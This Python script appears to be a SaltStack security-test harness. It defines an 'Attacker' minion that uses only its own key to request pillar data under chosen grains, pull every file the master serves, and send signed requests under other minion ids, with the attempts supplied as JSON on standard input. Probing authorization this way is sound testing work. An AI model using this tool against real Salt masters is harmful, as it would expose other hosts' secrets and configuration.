"""A minion that asks for what is not its own: run with its configuration, told by standard input what to try.

It needs nothing but what every minion has, its own key. Prints what it got, as JSON, in plain text.
"""

import json
import sys

import salt.channel.client
import salt.config
import salt.minion
import salt.pillar


class Attacker:
    def __init__(self, configuration):
        self.options = salt.config.minion_config(configuration)
        self.minion = salt.minion.SMinion(self.options)

    def pillar(self, grains=(), **asked):
        """Its pillar, with grains of its choice and whatever else a request may hold."""
        told = {**self.minion.opts["grains"], **dict(grains)}
        return salt.pillar.get_pillar(self.options, told, self.options["id"], **asked).compile_pillar()

    def call(self, function, *arguments, **options):
        """What ``salt-call`` would run."""
        return self.minion.functions[function](*arguments, **options)

    def everything(self, **options):
        """Each file that the master lists."""
        names = self.call("cp.list_master", **options)
        return {name: self.call("cp.get_file_str", f"salt://{name}", **options) for name in names}

    def request(self, **load):
        """A request of its own making, signed with its own key, perhaps under another name."""
        with salt.channel.client.ReqChannel.factory(self.options) as channel:
            return channel.send({"id": self.options["id"], **load}, timeout=10, tries=1)

    def secret_request(self, own_id=None, **load):
        """One for pillar, whose answer is encrypted for the minion that it is from."""
        options = {**self.options, "id": own_id or self.options["id"], "auth_timeout": 2, "auth_tries": 1}
        load = {"cmd": "_pillar", "id": options["id"], "grains": {}, "saltenv": None, **load}
        with salt.channel.client.ReqChannel.factory(options) as channel:
            return channel.crypted_transfer_decode_dictentry(load, dictkey="pillar", timeout=3, tries=1)


def attempt(attacker, way, arguments, options):
    try:
        return getattr(attacker, way)(*arguments, **options)
    except (Exception, SystemExit) as error:
        return f"{type(error).__name__}: {error}"


if __name__ == "__main__":
    attacker = Attacker(sys.argv[1])
    print(json.dumps([attempt(attacker, *one) for one in json.load(sys.stdin)], default=repr))
